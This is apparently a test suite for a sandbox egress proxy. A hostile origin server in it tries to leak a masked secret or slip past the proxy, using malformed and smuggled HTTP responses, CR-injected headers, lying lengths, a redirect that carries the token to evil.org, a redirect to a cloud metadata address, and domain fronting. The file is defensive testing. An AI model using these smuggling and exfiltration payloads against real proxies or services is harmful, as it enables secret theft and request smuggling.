"""Attacks of a server on the egress proxy of a box that ends the TLS to it: on the secret in its answers, and on the proxy itself."""

import base64
import json
import os
import re

import pytest

import hostile_origin
import secret_origin
from box_secrets import TO, get, origin, say  # noqa: F401
from boxes import skiff  # noqa: F401
from egressing import log_of, outside, through  # noqa: F401
from hostile import ANSWERS, hostile, place  # noqa: F401
from waiting import until

pytestmark = [pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a laptop and an internet"),
              pytest.mark.parametrize("skiff", ["user"], indirect=True)]


def status(answer):
    return int(answer.split(" ")[1])


@pytest.mark.parametrize("port", ["HELLOS", "TICKETS"])
def test_messages_of_tls_without_an_end_hold_up_nobody(hostile, port):
    (good,) = say(hostile.skiff, get("/echo"))
    assert status(good) == 200
    flood = hostile.start(getattr(hostile_origin, port))
    until(lambda: [one for one in log_of(hostile.skiff)["items"] if one["verdict"] == "allowed"][1:])
    (good,) = say(hostile.skiff, get("/echo"))
    assert status(good) == 200
    flood.kill()
    flood.communicate()


HEAD = "HTTP/1.1 200 OK\r\n"


def test_the_secret_in_any_part_of_an_answer_is_masked(hostile):
    size = str(len(hostile.token) + 2)
    found = hostile.ask(
        early=[f"HTTP/1.1 103 Early Hints\r\nLink: <{{token}}>\r\nX-{{token}}: 1\r\n\r\n{HEAD}Content-Length: 2\r\n\r\nok"],
        reason="HTTP/1.1 200 {token}\r\nContent-Length: 2\r\n\r\nok", name=f"{HEAD}X-{{token}}: 1\r\n{{token}}: 1\r\nContent-Length: 2\r\n\r\nok",
        cookie=f"{HEAD}Set-Cookie: a={{token}}; Path=/{{pair}}\r\nContent-Length: 2\r\n\r\nok",
        location="HTTP/1.1 302 Found\r\nLocation: https://evil.org/?{token}#{pair}\r\nContent-Length: 2\r\n\r\nok",
        extension=f"{HEAD}Transfer-Encoding: chunked\r\n\r\n2;{{token}}\r\nok\r\n0;a=\"{{token}}\"\r\n\r\n",
        trailer=f"{HEAD}Transfer-Encoding: chunked\r\nTrailer: X-{{token}}\r\n\r\n2\r\nok\r\n0\r\nX-Late: {{token}}\r\nX-{{token}}: 1\r\n\r\n",
        records=[f"{HEAD}Content-Length: {size}\r\n\r\nok", hostile.token[:7], hostile.token[7:8], hostile.token[8:]],
        chunks=[f"{HEAD}Transfer-Encoding: chunked\r\n\r\n2\r\nok\r\n", *(f"1\r\n{one}\r\n" for one in hostile.token), "0\r\n\r\n"],
        range="HTTP/1.1 206 Partial\r\nContent-Type: multipart/byteranges; boundary=b\r\nContent-Length: "
              f"{len(hostile.token) + 12}\r\n\r\n--b\r\n\r\nok{{token}}\r\n",
        old="HTTP/1.0 200 OK\r\n\r\nok{token}{token}", twice=f"{HEAD}\r\nok{hostile.token[:20]}{{token}}{hostile.token[20:]}.",
        empty=f"HTTP/1.1 204 {{token}}\r\nX: {{token}}\r\n\r\n{{token}}", unchanged="HTTP/1.1 304 Not\r\nETag: \"{token}\"\r\n\r\n{token}",
        hop=f"{HEAD}Connection: X-Mine\r\nX-Mine: {{token}}\r\nProxy-Authenticate: {{token}}\r\nContent-Length: 2\r\n\r\nok")
    for name, one in found.items():
        whole = one.partition("\r\n\r\n")[2] if name == "twice" else one
        assert hostile.token not in one and hostile.token[:9] not in whole.replace(hostile.token[:20], "", name == "twice"), (name, one)
        assert status(one) == {"early": 103, "location": 302, "range": 206, "empty": 204, "unchanged": 304}.get(name, 200), (name, one)
        assert name in ("empty", "unchanged") or "ok" in one, (name, one)
        assert "eC1hY2Nlc3" not in one, (name, one)  # the pair
    assert found["early"].count("HTTP/1.1 ") == 2 and "Link: <****" in found["early"]
    assert found["records"].endswith("ok" + "*" * len(hostile.token)) and "Location: https://evil.org/?***" in found["location"]
    # The server ends without close_notify, so what could begin a secret, as its last byte without the dot, does not come.
    assert "ok" + hostile.token[:20] + "*" * len(hostile.token) + hostile.token[20:] in found["twice"]
    assert found["empty"].endswith("\r\n\r\n") and found["unchanged"].endswith("\r\n\r\n")
    assert hostile.token not in json.dumps(log_of(hostile.skiff))


def test_answers_that_are_none_are_refused_and_not_quoted(hostile):
    length = "Content-Length: 2\r\n"
    wrong = {
        "two_lengths": f"{HEAD}{length}Content-Length: 3\r\n\r\nok{{token}}", "both": f"{HEAD}{length}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{{token}}",
        "gzip_chunked": f"{HEAD}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", "two_codings": f"{HEAD}Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "sign": f"{HEAD}Content-Length: +2\r\n\r\nok", "folded": f"{HEAD}X: {{token}}\r\n {{token}}\r\n{length}\r\nok", "carriage": f"{HEAD}X: {{token}}\rSet-Cookie: a=b\r\n{length}\r\nok",
        "null": f"{HEAD}X: {{token}}\0\r\n{length}\r\nok", "space": f"{HEAD}X : {{token}}\r\n{length}\r\nok", "no_colon": f"{HEAD}{{token}}\r\n{length}\r\nok",
        "no_http": "{token}\r\n\r\n", "no_status": "HTTP/1.1 {token} OK\r\n\r\n", "no_version": "HTTP/{token} 200 OK\r\n\r\n", "version_2": "HTTP/2.0 200 {token}\r\n\r\n", "status_0": "HTTP/1.1 000 {token}\r\n\r\n",
        "nothing": "", "half": "HTTP/1.1 200 OK\r\nX: {token}", "unasked": "HTTP/1.1 101 {token}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n{token}",
        "hints": "HTTP/1.1 103 {token}\r\nX: {token}\r\n\r\n" * 40,
        "encoded": f"{HEAD}Content-Encoding: gzip\r\n{length}\r\nok", "encoded_twice": f"{HEAD}Content-Encoding: identity\r\nContent-Encoding: br\r\n{length}\r\nok",
        "encoded_list": f"{HEAD}content-encoding: identity, deflate\r\n{length}\r\nok", "encoded_for_one": f"{HEAD}Connection: Content-Encoding\r\nContent-Encoding: zstd\r\n{length}\r\nok"}
    found = hostile.ask(**{name: [text] for name, text in wrong.items()})
    for name, one in found.items():
        code = "encoded_answer" if "encoded" in name else "bad_answer"
        assert re.findall(r"HTTP/1\.1 (\d+) ", one)[-1] == "502" and f"X-Skiff-Egress: {code}\r\n" in one, (name, one)
        assert hostile.token not in one and hostile.token[:9] not in one and "Set-Cookie" not in one, (name, one)
    assert found["hints"].count("HTTP/1.1 103") == 16
    log = log_of(hostile.skiff)["items"]
    assert hostile.token not in json.dumps(log)
    assert len([one for one in log if one["verdict"] == "denied"]) == len(wrong)


def test_lengths_that_lie_pass_nothing_on(hostile):
    """Bytes behind an answer are not passed on, and one that is too short is seen to be."""
    chunked = f"{HEAD}Transfer-Encoding: chunked\r\n\r\n2\r\nok\r\n"
    second = f"{HEAD}X-Second: {{token}}\r\nContent-Length: 3\r\n\r\nbad"
    found = hostile.ask(
        longer=f"{HEAD}Content-Length: 2\r\n\r\nok{second}", behind=f"{chunked}0\r\n\r\n{second}", none=f"HTTP/1.1 204 No\r\n\r\n{second}",
        kept=f"{HEAD}Connection: keep-alive\r\nKeep-Alive: timeout=99\r\nContent-Length: 2\r\n\r\nok{second}",
        shorter=f"{HEAD}Content-Length: 100\r\n\r\nok{{token}}", cut=f"{chunked}64\r\nok", size=f"{chunked}fffffffffffffffff\r\nok", no_size=f"{chunked}\r\nok",
        extension=[chunked, "1;", {"again": "{token}" * 100}], trailers=[chunked, "0\r\n", {"again": "X: {token}\r\n" * 100}], head=[HEAD, {"again": "X: {token}\r\n" * 100}],
        line=["HTTP/1.1 200 ", {"again": "{token}" * 1000}], name=[HEAD, {"again": "x" * 10_000}])
    for name, one in found.items():
        assert hostile.token not in one and hostile.token[:9] not in one and "X-Second" not in one and "bad" not in one.partition("\r\n\r\n")[2].replace("bad_answer", ""), (name, one)
    for name in ("longer", "behind", "kept"):
        assert "ok" in found[name] and found[name].count("HTTP/1.1 ") == 1, found[name]
    for name in ("head", "line", "name"):
        assert status(found[name]) == 502 and "bad_answer" in found[name], (name, found[name])
    # A client sees that these are not whole: there is no last chunk, and too few bytes.
    for name in ("cut", "size", "no_size", "extension", "trailers"):
        assert not found[name].endswith("0\r\n\r\n"), (name, found[name])
    assert len(found["shorter"].partition("\r\n\r\n")[2]) < 100


def test_an_answer_without_an_end_is_passed_on_as_it_comes(hostile):
    """Server-sent events: other bytes do not wait for more of them, and the end of the client is that of the answer."""
    hostile.teach(events=[f"{HEAD}Content-Type: text/event-stream\r\n\r\ndata: begin\n\n", {"again": "data: {token}\n\n"}])
    script = ("import sys; sys.path.insert(0, '/tmp'); import urllib.request as u; got = u.urlopen(sys.argv[1]); "
              "print(got.readline().decode(), got.readline() and '', got.read(500).decode())")
    out = hostile.skiff("exec", "box", "--", "python3", "-c", script, f"https://{ANSWERS}/events")[0]
    assert out.startswith("data: begin") and "data: " + "*" * len(hostile.token) in out and hostile.token not in out
    until(lambda: [one for one in log_of(hostile.skiff)["items"] if one["verdict"] == "ended" and one["path"] == "/events"])


def test_a_server_that_is_none_gets_no_secret(hostile):
    """A chain that is too long, a certificate that was good until yesterday, and a protocol of the past."""
    for port in (hostile_origin.CHAIN, hostile_origin.EXPIRED, hostile_origin.OLD):
        (one,) = say(hostile.skiff, get("/x", host=place(port)), to=place(port))
        assert status(one) == 502 and hostile.token not in one, one
        assert "X-Skiff-Egress: upstream_tls" in one or port != hostile_origin.EXPIRED, one
    assert not (hostile.origin.directory / "credentials.log").exists()
    assert status(hostile.ask(fine=f"{HEAD}Content-Length: 2\r\n\r\nok")["fine"]) == 200
    assert (hostile.origin.directory / "credentials.log").read_text() == f"{hostile_origin.ANSWERS}\n"


def test_a_redirect_is_the_clients_affair(hostile):
    hostile.teach(away="HTTP/1.1 307 Away\r\nLocation: https://evil.org/?{token}\r\nContent-Length: 0\r\n\r\n",
                  inner="HTTP/1.1 307 Away\r\nLocation: https://169.254.169.254/\r\nContent-Length: 0\r\n\r\n")
    for name, code in (("away", "403"), ("inner", "400")):
        said = hostile.skiff.sh(f"curl -sSL -w '%{{http_connect}} %{{num_redirects}}' https://{ANSWERS}/{name} 2>/dev/null || true")
        assert said == f"{code} 1", said
    assert {one["code"] for one in log_of(hostile.skiff, "--denied")["items"]} == {"not_allowed", "bad_target"}


def test_what_cannot_be_seen_is_as_the_page_says(hostile):
    """These pass, and docs/egress.md says so: a secret in another form, and another host in a tunnel whose TLS is not looked into."""
    coded = base64.b64encode(hostile.token.encode()).decode()
    found = hostile.ask(coded=f"{HEAD}Content-Length: {len(coded)}\r\n\r\n{coded}", back=f"{HEAD}Content-Length: {len(hostile.token)}\r\n\r\n{hostile.token[::-1]}",
                        labelled=f"{HEAD}Content-Encoding: identity\r\nContent-Length: {len(coded)}\r\n\r\n{coded}")
    assert coded in found["coded"] and hostile.token[::-1] in found["back"] and coded in found["labelled"]
    hostile.skiff("network", "box", "--egress", "+pypi.org")
    fronted = "GET / HTTP/1.1\r\nHost: evil.org\r\n\r\n"
    assert "pypi.org 443" in through(hostile.skiff, {"to": "pypi.org:443", "say": fronted})[0]["said"]


def certificate_of(skiff, to):
    """The certificate that a program in the box is shown."""
    host, _, port = to.rpartition(":")
    script = (f"import socket, ssl; one = socket.create_connection(('127.0.0.1', 3128)); one.sendall(b'CONNECT {to} HTTP/1.1\\r\\n\\r\\n'); one.recv(99); "
              f"c = ssl._create_unverified_context(); s = c.wrap_socket(one, server_hostname='{host}'); "
              "print(ssl.DER_cert_to_PEM_cert(s.getpeercert(True)))")
    return skiff("exec", "box", "--", "python3", "-c", script)[0].strip()


def test_names_without_number_get_no_certificates(hostile):
    """There is one for each host of the box's secrets; other names are passed on, whoever asks for them."""
    skiff = hostile.skiff
    skiff("network", "box", "--egress", f"+*.wild.example.com:{secret_origin.PORT}", "--egress", "+*.wild.example.com", "--egress", "+pypi.org")
    first = certificate_of(skiff, TO)
    names = [{"to": f"n{number}.wild.example.com:443"} for number in range(20)]
    found = through(skiff, *names, *({"to": TO, "sni": f"n{number}.git.example.com"} for number in range(20)))
    assert [one["said"].split()[0] for one in found[:20]] == [one["to"][:-4] for one in names]
    assert all("failed" in one for one in found[20:])
    # The origin's own for a name without a secret, and the same as before for the one with it.
    assert certificate_of(skiff, "pypi.org:443") == (hostile.origin.directory.parent / "origin.pem").read_text().strip()
    assert certificate_of(skiff, TO) == first
